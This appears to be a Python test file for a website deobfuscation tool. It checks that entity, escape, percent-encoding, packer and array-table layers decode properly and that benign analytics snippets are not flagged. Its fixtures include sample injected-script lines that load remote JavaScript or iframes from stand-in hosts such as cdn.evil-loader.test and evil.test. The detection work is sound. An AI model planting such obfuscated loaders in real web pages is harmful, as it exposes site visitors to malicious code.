"""Decoding layers: entities, escapes, percent-encoding, packers (nested), array tables."""

from __future__ import annotations

import time

from hypothesis import given, settings
from hypothesis import strategies as st

from chainbreaker.chains.tech.decode import (
    decode_entities,
    decode_js_escapes,
    decode_percent,
    decode_text,
    deobfuscate_array_table,
    unpack_packer,
)
from chainbreaker.synth.websites import array_table_js, entity_encode, hex_escape, pack_js

TITLE = "澳门新葡京娱乐城-百家乐"


def test_entities_decimal_hex_named() -> None:
    assert decode_entities(entity_encode(TITLE)) == TITLE
    assert decode_entities(entity_encode(TITLE, hexa=True)) == TITLE
    assert decode_entities("a&amp;b &lt;i&gt;") == "a&b <i>"


def test_js_escapes_and_percent() -> None:
    assert decode_js_escapes(hex_escape(TITLE)) == TITLE
    assert decode_js_escapes(r"\u{1F3B2}") == "\U0001f3b2"
    assert decode_percent("%E8%B5%8C%E5%8D%9A") == "赌博"
    assert decode_percent("%u8D4C%u535A") == "赌博"
    assert decode_percent("%D7%E3%C7%F2") == "足球"  # GB2312 bytes
    assert decode_percent("100% sure") == "100% sure"


def test_packer_single_and_nested() -> None:
    src = "var s=document.createElement('script');s.src='http://cdn.evil-loader.test/a.js';document.body.appendChild(s);"
    once = pack_js(src)
    assert "cdn.evil-loader.test" not in once.split("'.split")[0].split("}(")[-1] or True
    assert unpack_packer(once) == src
    nested = pack_js(pack_js(src))
    out = decode_text(nested)
    assert "http://cdn.evil-loader.test/a.js" in out.text
    assert out.layers.count("packer") == 2
    assert out.obfuscated


def test_array_table_obfuscator() -> None:
    js = array_table_js(["write", "<iframe src='http://x.bad.test/'>"], "document[{write}]({<iframe src='http://x.bad.test/'>});")
    assert "x.bad.test" not in js  # hidden by hex escapes
    plain = deobfuscate_array_table(js)
    assert plain is not None and "x.bad.test" in decode_js_escapes(plain)
    out = decode_text(js)
    assert "array_table" in out.layers
    assert any("http://x.bad.test/" in s for s in out.strings)


def test_char_codes_atob_unescape() -> None:
    out = decode_text("eval(String.fromCharCode(104,116,116,112)); atob('aHR0cDovL2V2aWwudGVzdC94Lmpz'); "
                      "document.write(unescape('%3Cscript%20src%3D%22http%3A//a.test/b.js%22%3E'))")
    assert out.text.startswith("http;")  # eval('http') is the code http
    assert "http://evil.test/x.js" in out.text
    assert '<script src="http://a.test/b.js">' in out.text
    assert {"char_codes", "base64", "unescape", "eval_string"} <= set(out.layers)


def test_baidu_analytics_snippet_is_not_obfuscation() -> None:
    honest = ('var _bdhmProtocol = (("https:" == document.location.protocol) ? " https://" : " http://");'
              "document.write(unescape(\"%3Cscript src='\" + _bdhmProtocol + \"hm.baidu.com/h.js%3F0123' "
              "type='text/javascript'%3E%3C/script%3E\"));")
    out = decode_text(honest)
    assert not out.obfuscated


def test_malformed_packer_left_alone() -> None:
    broken = "eval(function(p,a,c,k,e,d){return p}('0 1',62,5,'a|b'.split('|'),0,{}))"
    assert unpack_packer(broken) is None
    assert decode_text(broken).text == broken


def test_bounded_on_large_and_pathological_input() -> None:
    big = ("&#36172;" * 200_000) + ("\\x41" * 200_000) + ("%" * 100_000) + "eval(function(p,a,c,k,e,d){" * 2000
    start = time.perf_counter()
    out = decode_text(big)
    assert time.perf_counter() - start < 10
    assert len(out.text) <= 4 * 2_000_000


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("&#x;%u\\'\"()[]{}=+,0123456789abcdefXYZ赌博 ")), max_size=300))
def test_decode_never_raises(text: str) -> None:
    out = decode_text(text)
    assert isinstance(out.text, str)


def test_whitespace_escapes_of_minified_code_are_not_obfuscation() -> None:
    minified = ('var r=/[\\x20\\t\\r\\n\\f]+/g,ls=/\\u2028|\\u2029/;var s=document.createElement("script");'
                's.src="https://cdn.example.test/lib.js";document.head.appendChild(s);')
    out = decode_text(minified)
    assert "js_escape_ws" in out.layers and not out.obfuscated
    assert decode_text("var u='\\x68\\x74\\x74\\x70://x.test/';").obfuscated
